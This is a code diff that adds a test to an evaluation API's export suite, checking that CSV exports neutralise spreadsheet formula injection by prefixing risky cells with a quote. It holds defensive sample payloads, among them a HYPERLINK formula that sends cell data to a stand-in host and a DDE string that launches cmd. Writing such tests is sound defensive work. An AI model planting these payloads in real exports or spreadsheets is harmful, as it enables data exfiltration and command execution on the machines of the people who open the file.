@@ -185,6 +185,39 @@ class TestExport:
         ]
         assert json.loads(rows[0]["logs"])["expected"] == "a b c"
 
+    def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(self, api: Api) -> None:
+        client = api.tenant_client()
+        ids = [
+            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\tTAB",
+            "\rCR",
+            "plain = fine",
+        ]
+        response = client.post(
+            "/v1/evaluations",
+            json={
+                "test_cases": [
+                    {"id": case_id, "input": "q", "actual_output": "a", "expected_output": "a"}
+                    for case_id in ids
+                ],
+                "metrics": [{"type": "exact_match", "name": "=1+1"}],
+            },
+        )
+        assert response.status_code == 202, response.text
+        eid = api.wait(client, response.json()["id"])["id"]
+        export = f"/v1/evaluations/{eid}/results/export"
+        rows = list(csv.DictReader(io.StringIO(client.get(export, params={"format": "csv"}).text)))
+        assert [row["test_case_id"] for row in rows] == [*("'" + i for i in ids[:-1]), ids[-1]]
+        assert {row["metric"] for row in rows} == {"'=1+1"}
+        assert {row["score"] for row in rows} == {"1.0"}  # numbers stay numbers
+        # JSON Lines are data for programs: every value as submitted.
+        lines = [json.loads(line) for line in client.get(export).text.splitlines()]
+        assert [line["test_case_id"] for line in lines] == ids
+        assert {line["metric"] for line in lines} == {"=1+1"}
+
     def test_another_tenant_gets_404(self, api: Api) -> None:
         _, evaluation = submitted(api)
         stranger = api.tenant_client()
